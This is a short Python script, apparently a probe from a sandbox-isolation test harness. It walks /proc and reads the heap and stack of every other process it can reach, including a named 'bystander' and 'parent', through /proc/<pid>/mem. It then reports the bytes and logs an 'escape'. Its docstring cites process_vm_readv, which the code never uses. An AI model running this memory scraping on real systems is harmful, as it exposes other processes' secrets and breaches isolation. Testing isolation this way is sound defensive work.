"""Reads what other processes hold in memory, through /proc and with process_vm_readv."""

import glob
import os
import re

from outside import done, escaped, given, reveal

for path in [*glob.glob("/proc/[0-9]*"), f"/proc/{given['bystander']}", f"/proc/{given['parent']}"]:
    if int(os.path.basename(path)) == os.getpid():
        continue
    try:
        with open(f"{path}/maps") as maps, open(f"{path}/mem", "rb") as memory:
            for start, end in re.findall(r"(?m)^(\w+)-(\w+) rw.*\[(?:stack|heap)\]", maps.read()):
                memory.seek(int(start, 16))
                reveal(memory.read(int(end, 16) - int(start, 16)))
                escaped(f"read the memory of {path}")
    except (OSError, ValueError, OverflowError):
        continue
done()
